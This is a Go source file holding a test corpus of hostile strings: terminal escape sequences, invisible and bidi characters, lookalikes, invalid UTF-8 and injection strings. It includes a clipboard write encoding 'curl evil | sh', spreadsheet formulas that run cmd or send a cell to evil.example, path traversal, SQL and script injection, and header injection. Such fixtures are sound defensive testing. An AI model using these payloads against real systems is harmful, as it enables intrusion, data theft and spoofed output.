package hostile

import (
	"slices"
	"strings"
)

// Sample holds one hostile string. Names are unique.
type Sample struct {
	Name, Text string
}

// Strings returns the whole corpus, in a fixed order. Some samples are not valid UTF-8, and one is 10 kB long.
func Strings() []Sample {
	return slices.Concat(sequences(), controls(), unseen(), lookalikes(), widths(), syntax(), lengths())
}

// Literals returns strings in the form of JSON documents: what a service can send that no encoder of ours would write.
func Literals() []Sample {
	return []Sample{
		{"lone high surrogate", `"a\ud800b"`},
		{"lone low surrogate", `"a\udc00b"`},
		{"surrogates swapped", `"\ude00\ud83d"`},
		{"surrogate then letter", `"\ud83dx"`},
		{"escaped ESC", `"\u001b]0;owned\u0007"`},
		{"escaped NUL", `"a\u0000b"`},
		{"escaped C1", `"\u009b31mred"`},
		{"escaped RLO", `"invoice\u202efdp.exe"`},
		{"raw byte", "\"a\xffb\""},
		{"raw C1 byte", "\"a\x9b31mb\""},
		{"escaped slash", `"a\/b"`},
		{"noncharacter", `"a\uffffb"`},
	}
}

func sequences() []Sample {
	return []Sample{
		{"CSI clear screen", "a\x1b[2J\x1b[Hb"},
		{"CSI cursor up and overwrite", "a\x1b[1A\x1b[2Kb"},
		{"CSI unterminated", "a\x1b[38;5"},
		{"CSI device status", "a\x1b[6nb"},
		{"CSI scroll region", "a\x1b[1;2rb"},
		{"CSI alternate screen off", "a\x1b[?1049lb"},
		{"CSI mouse on", "a\x1b[?1003h\x1b[?1006hb"},
		{"CSI window operations", "a\x1b[21t\x1b[8;1;1tb"},
		{"SGR conceal", "a\x1b[8mhidden"},
		{"SGR reverse and blink", "a\x1b[5;7mb"},
		{"SGR with 40 parameters", "a\x1b[1;2;3;4;5;6;7;8;9;10;11;12;13;14;15;16;17;18;19;20;" +
			"21;22;23;24;25;26;27;28;29;30;31;32;33;34;35;36;37;38;39;40mb"},
		{"SGR true colour", "a\x1b[38;2;255;0;0mb\x1b[0m"},
		{"OSC 0 title", "a\x1b]0;owned\x07b"},
		{"OSC 0 title, ST", "a\x1b]0;owned\x1b\\b"},
		{"OSC 0 unterminated", "a\x1b]0;swallowed"},
		{"OSC 8 link", "\x1b]8;;https://evil.example/\x1b\\bank.example\x1b]8;;\x1b\\"},
		{"OSC 8 link with controls", "\x1b]8;;file:///etc\x9d0;x\x07\x1b\\bank\x1b]8;;\x1b\\"},
		{"OSC 52 clipboard write", "a\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07b"},
		{"OSC 52 clipboard read", "a\x1b]52;c;?\x07b"},
		{"OSC 9 notification", "a\x1b]9;Your session expired\x07b"},
		{"OSC 1337 file", "a\x1b]1337;File=name=eA==;inline=1:AAAA\x07b"},
		{"DCS DECRQSS", "a\x1bP$q\"p\x1b\\b"},
		{"DCS sixel", "a\x1bPq#0;2;0;0;0#0~~\x1b\\b"},
		{"DCS unterminated", "a\x1bPswallowed"},
		{"DCS tmux passthrough", "a\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\b"},
		{"APC", "a\x1b_Gf=24;AAAA\x1b\\b"},
		{"APC unterminated", "a\x1b_swallowed"},
		{"SOS unterminated", "a\x1bXswallowed"},
		{"PM unterminated", "a\x1b^swallowed"},
		{"RIS reset", "a\x1bcb"},
		{"charset switch", "a\x1b(0lqqk\x0eb\x0f"},
		{"DECALN", "a\x1b#8b"},
		{"ESC at the end", "a\x1b"},
		{"C1 CSI as UTF-8", "a\u009b2Jb"},
		{"C1 OSC 52 as UTF-8", "a\u009d52;c;eA==\u009cb"},
		{"C1 DCS as UTF-8, unterminated", "a\u0090swallowed"},
		{"C1 APC as UTF-8", "a\u009fx\u009cb"},
		{"C1 CSI as a byte", "a\x9b2Jb"},
		{"C1 OSC as a byte, unterminated", "a\x9d0;swallowed"},
		{"sequence split by a zero width", "a\x1b\u200b[2Jb"},
	}
}

func controls() []Sample {
	return []Sample{
		{"BEL", "a\a\a\ab"},
		{"backspace overwrite", "VOIDED\b\b\b\b\b\bACTIVE"},
		{"carriage return overwrite", "real\rfake"},
		{"delete", "a\x7f\x7fb"},
		{"NUL", "a\x00b"},
		{"tab", "a\tb\t\tc"},
		{"line feed makes a row", "a\n> Status: COMPLETED"},
		{"CRLF", "a\r\nb\r\n"},
		{"vertical tab and form feed", "a\vb\fc"},
		{"shift out", "a\x0eqqq\x0fb"},
		{"next line", "a\u0085b"},
		{"line separator", "a\u2028b"},
		{"paragraph separator", "a\u2029b"},
		{"substitute and cancel", "a\x1a\x18b"},
		{"invalid UTF-8", "a\xff\xfe\x80b"},
		{"cut UTF-8", "a\xe2\x82"},
		{"overlong UTF-8", "a\xc0\xafb\xe0\x80\xaf"},
		{"surrogate bytes", "a\xed\xa0\x80\xed\xb0\x80b"},
		{"beyond Unicode", "a\xf4\x90\x80\x80b"},
		{"noncharacters", "a\ufdd0\ufffe\uffff\U0001ffffb"},
	}
}

func unseen() []Sample {
	return []Sample{
		{"right-to-left override", "invoice\u202efdp.exe"},
		{"left-to-right override", "\u202dabc\u202c"},
		{"embeddings", "a\u202ab\u202bc\u202cd"},
		{"isolates", "a\u2066b\u2067c\u2068d\u2069e"},
		{"unclosed isolate", "Sign here \u2067/* } \u2066if admin"},
		{"direction marks", "a\u200eb\u200fc\u061cd"},
		{"zero-width space", "Con\u200btract"},
		{"zero-width joiners", "Con\u200c\u200dtract"},
		{"word joiner", "Con\u2060tract"},
		{"byte order mark", "\ufeffContract\ufeff"},
		{"soft hyphen", "Con\u00adtract"},
		{"grapheme joiner", "Con\u034ftract"},
		{"tags", "Contract\U000e0073\U000e0065\U000e0063\U000e0072\U000e0065\U000e0074\U000e007f"},
		{"language tag", "a\U000e0001\U000e0065b"},
		{"invisible operators", "a\u2061b\u2062c\u2063d\u2064e"},
		{"deprecated format", "a\u206ab\u206fc"},
		{"interlinear annotation", "a\ufff9b\ufffac\ufffbd"},
		{"variation selectors", "a\ufe00b\ufe0ec\U000e0100d"},
		{"Mongolian separator", "a\u180eb\u180bc"},
		{"Arabic number sign", "\u06001\u06dd2"},
		{"musical format", "a\U0001d173b\U0001d17ac"},
		{"Hangul filler", "\u3164\u3164"},
		{"jamo fillers", "a\u115f\u1160b"},
		{"halfwidth filler", "a\uffa0b"},
		{"Braille blank", "\u2800\u2800\u2800"},
		{"Khitan filler", "a\U00016fe4b"},
		{"Khmer inherent vowels", "\u1780\u17b4\u1780\u17b5"},
		{"object replacement", "a\ufffcb"},
		{"null notehead", "a\U0001d159b"},
		{"private use", "a\ue000\uf8ff\U000f0000\U0010fffdb"},
		{"unassigned", "a\u0378\U0002fe00b"},
		{"only blanks", " \t \u3000 "},
	}
}

func lookalikes() []Sample {
	return []Sample{
		{"no-break space", "Sales\u00a0contract"},
		{"kinds of space", "a\u2000b\u2003c\u2009d\u202fe\u205ff"},
		{"ideographic space", "山田\u3000太郎"},
		{"Cyrillic in a Latin word", "p\u0430yp\u0430l.example"},
		{"decomposed accent", "cafe\u0301"},
		{"compatibility letters", "\u212bngstrom \u2126"},
		{"fullwidth letters", "ＶＯＩＤ"},
		{"fake prompt", "VOID this envelope? [y/N] y"},
		{"fake frame", "│ Status  COMPLETED │"},
		{"marks without a base", "\u0301\u0302x"},
		{"vowel sign without a base", "\u093ex"},
		{"blanks push the end away", "invoice.pdf" + strings.Repeat(" ", 120) + ".exe"},
	}
}

// widths returns texts whose width terminals disagree on.
func widths() []Sample {
	return []Sample{
		{"Zalgo", "Z" + strings.Repeat("\u0301\u0322\u0334\u0489", 50) + "algo"},
		{"tall stack", "a" + strings.Repeat("\u0344", 200)},
		{"vowel signs in a row", "\u0915" + strings.Repeat("\u093e", 200)},
		{"joined family", "👨\u200d👩\u200d👧\u200d👦"},
		{"skin tone", "👍\U0001f3fd👋\U0001f3ff"},
		{"warning with selector", "⚠\ufe0f ❤\ufe0f"},
		{"keycap", "1\ufe0f\u20e3#\ufe0f\u20e3"},
		{"flags", "🇫🇷🇩🇪🇨"},
		{"flag of tags", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"},
		{"emoji row", strings.Repeat("🎉", 60)},
		{"ambiguous width", "★☆●○◎■□▲△→←↑↓①②③§¶±×÷°"},
		{"CJK", "契約書に署名してください。계약서"},
		{"halfwidth kana with voice marks", "ｶﾞｷﾞﾊﾟ"},
		{"loose jamo", "\u1100\u1100\u1100\u1161\u11a8\u11a8"},
		{"Devanagari conjuncts", "नमस्ते क्षत्रिय"},
		{"Thai am", "น้ำคำ"},
		{"Arabic ligature word", "﷽ مُحَمَّد"},
		{"joining letters", "\u0d4e\u0d15 \U000111c2\U00011191"},
		{"cuneiform", "𒐫𒈙⸻"},
		{"musical marks", "a\U0001d165\U0001d16eb"},
	}
}

// syntax returns texts that mean something to a program they pass through.
func syntax() []Sample {
	return []Sample{
		{"formula", "=cmd|'/c calc'!A0"},
		{"formula plus", "+1+cmd|' /C calc'!A0"},
		{"formula minus", "-2+3+cmd|' /C calc'!A0"},
		{"formula at", "@SUM(1+1)*cmd|' /C calc'!A0"},
		{"formula after tab", "\t=1+1"},
		{"formula link", `=HYPERLINK("https://evil.example?x="&A1,"click")`},
		{"path up", "../../../etc/passwd"},
		{"path up, Windows", `..\..\boot.ini`},
		{"absolute path", "/etc/cron.d/x"},
		{"dots", ".."},
		{"hidden file", ".bashrc"},
		{"option-like", "-rf --no-preserve-root"},
		{"device name", "CON.pdf"},
		{"device stream", "nul:$DATA"},
		{"percent escapes", "a%2e%2e%2f%00%0d%0ab"},
		{"format verbs", "%s%n%x%!d(MISSING)%99999999d"},
		{"template", "{{.Token}}${HOME}$(id)`id`"},
		{"HTML", `<script>alert(1)</script><img src=x onerror="x">`},
		{"quotes", `a"b'c\"d\\`},
		{"JSON breaking", `","status":"VOIDED","x":"`},
		{"backslash escapes", `\u001b[2J\ud83d\x1b\n`},
		{"SQL", `'; DROP TABLE envelopes; --`},
		{"URL of a script", "javascript:alert(1)//https://bank.example"},
		{"header injection", "a\r\nAuthorization: Bearer x"},
		{"address with a comment", `"evil@evil.example"@bank.example`},
		{"null word", "null"},
	}
}

func lengths() []Sample {
	return []Sample{
		{"10 kB name", strings.Repeat("long name ", 1024)},
		{"word of 2,000 letters", strings.Repeat("w", 2000)},
		{"CJK without a break", strings.Repeat("契約", 600)},
		{"500 lines", strings.Repeat("line\n", 500)},
		{"long extension", "invoice." + strings.Repeat("pdf", 80)},
	}
}
